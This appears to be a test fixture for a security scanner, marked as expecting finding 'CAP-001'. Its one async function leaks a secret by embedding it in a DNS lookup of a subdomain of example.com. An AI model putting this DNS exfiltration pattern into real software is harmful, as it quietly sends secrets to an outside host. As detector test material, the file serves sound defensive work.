# expect: CAP-001
import asyncio


async def tell(secret):
    await asyncio.get_running_loop().getaddrinfo(f"{secret}.example.com", 80)
